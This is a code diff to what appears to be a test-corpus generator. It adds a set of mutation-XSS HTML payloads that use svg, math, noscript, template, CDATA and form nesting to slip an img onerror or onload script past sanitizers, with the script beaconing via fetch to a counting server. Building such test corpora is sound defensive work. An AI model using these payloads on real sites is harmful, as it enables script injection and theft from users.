@@ -15,7 +15,7 @@ def corpus(url: str) -> Mapping[str, bytes]:
     :param url: of a server that counts who comes.
     """
     script = f"document.title='{MARK}';top.document.title='{MARK}';fetch('{url}/fetch')"
-    pages = _running(url, script) | _loading(url, script) | _confusing(url, script)
+    pages = _running(url, script) | _loading(url, script) | _confusing(url, script) | _changing(url, script)
     return {name: _html(page) for name, page in pages.items()} | _mails(url, script)
 
 
@@ -65,6 +65,34 @@ def _confusing(url: str, script: str) -> dict[str, str]:
         "entities": f"&lt;script&gt;{script}&lt;/script&gt; &#x3c;img src={url}/3&#x3e; &#99999999999; &#x202e;txt.exe",
         "deep": "<div>" * 30_000 + "bottom",
         "clobber": "<p id=main name=decide>clobber<a id=csrf name=csrf href='x'>x</a><form id=approve></form>",
+    }
+
+
+def _changing(url: str, script: str) -> dict[str, str]:
+    """HTML that is harmless where it is read first, and becomes something else where what was written is read again."""
+    image = f"<img src='{url}/x' onerror=&quot;{script}&quot;>"
+    hidden = image.replace("<", "&lt;").replace(">", "&gt;")
+    return {
+        "mutation-style-in-svg": f'<svg></p><style><a title="</style>{image}">seen</svg>',
+        "mutation-style-in-math": "<math><mtext><table><mglyph><style><!--</style>"
+        f'<img title="--&gt;{hidden}"></table></mtext>seen</math>',
+        "mutation-forms": "<form><math><mtext></form><form><mglyph><style></math>"
+        f"{image}</style></mglyph></form>seen",
+        "mutation-annotation": "<math><annotation-xml encoding='text/html'><style><!--</style>"
+        f'<p title="--&gt;{hidden}">seen</annotation-xml></math>',
+        "mutation-desc": f'seen<svg><desc><template><style></template></desc><title><p title="</title>{image}"></svg>',
+        "mutation-cdata": f"<svg><![CDATA[<p title=']]>{image}'>seen]]></svg>",
+        "mutation-noscript": f'<noscript><style></noscript>{image}</style><p title="</noscript>{image}">seen',
+        "mutation-template": "<template><template><style><!--</style></template>"
+        f'<p title="--></template></template>{image}">seen</template>seen',
+        "mutation-select": f'<select><template><style></select>{image}</style></template><option title="{hidden}">seen',
+        "mutation-table": f"<table><svg><g><title><table><tr><td><style></table>{image}</style></title></svg>seen",
+        "mutation-raw": f'<xmp><p title="</xmp>{image}">seen</xmp><noembed><p title="</noembed>{image}">',
+        "mutation-names": f'<svg/onload="{script}"/><p\x0ctitle=a\x0conclick="{script}"/title="{hidden}">seen'
+        f"<x-svg><x-math><x-style>{image}",
+        "mutation-copies": "<div>"
+        + "".join(f"<font size={n}>" for n in range(3_000))
+        + "</div><div>seen" * 3_000,
     }
 
 
